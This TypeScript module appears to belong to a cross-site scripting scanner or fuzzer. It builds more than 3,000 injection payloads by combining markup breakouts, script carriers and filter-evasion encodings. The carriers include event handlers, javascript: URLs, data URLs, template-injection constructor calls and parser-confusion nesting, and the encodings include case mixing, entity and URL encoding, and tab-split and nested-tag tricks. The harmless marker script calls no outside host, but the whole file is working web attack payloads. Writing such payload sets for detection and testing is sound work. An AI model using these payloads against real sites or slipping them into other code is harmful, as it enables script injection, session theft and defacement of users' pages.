/** Sets a global in the page that runs it, or in the page around it. */
const hit = 'top.kindredHit=1';
export const hitName = 'kindredHit';

/** Breaks out of the place where a text is inserted: an element, an attribute, a script, a comment. */
const breakouts = [
  '',
  '"',
  "'",
  '>',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '\\">',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '&quot;&gt;',
  '\u2028',
] as const;

/** Runs when the page is parsed, shown, focused or animated. */
const carriers: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<script src="data:text/javascript,${script}"></script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><animate attributeName=x dur=1s onbegin=${script}>`,
  (script) => `<svg><script href="data:text/javascript,${script}"/></svg>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) => `<embed src="data:text/html,<script>${script}</script>">`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<body onload=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<audio src=x onerror=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${script}>`,
  (script) => `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  (script) => `<a href="javascript:${script}" autofocus onfocus=${script}>x</a>`,
  (script) => `[x](javascript:${script})`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<link rel=stylesheet href=x onerror=${script}>`,
  (script) => `' onmouseover='${script}' autofocus onfocus='${script}`,
  (script) => `;${script}//`,
  (script) => `{{constructor.constructor("${script}")()}}`,
];

/** The same text as filters and parsers may see it. */
const encodings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) =>
    payload.replaceAll(/<(\/?)(\w+)/g, (_, slash: string, name: string) => `<${slash}${upper(name)}`),
  (payload) => payload.replaceAll(/<(\w+) /g, '<$1/'),
  (payload) => payload.replaceAll(/<(\w+) /g, '<$1\n'),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (payload) => payload.replaceAll(' on', '\u00a0on').replaceAll('javascript:', '&#106;avascript&colon;'),
  (payload) => payload.replaceAll('javascript:', 'java\tscript:').replaceAll('<script', '<scr<script>ipt'),
];

/** Breakouts × carriers × encodings, without those that come out the same: more than 3,000. */
export const scriptPayloads: readonly string[] = [
  ...new Set(
    breakouts.flatMap((breakout) =>
      carriers.flatMap((carrier) => encodings.map((encode) => breakout + encode(carrier(hit)))),
    ),
  ),
];

function upper(name: string): string {
  return name.replaceAll(/(\w)(\w?)/g, (_, big: string, small: string) => big.toUpperCase() + small);
}
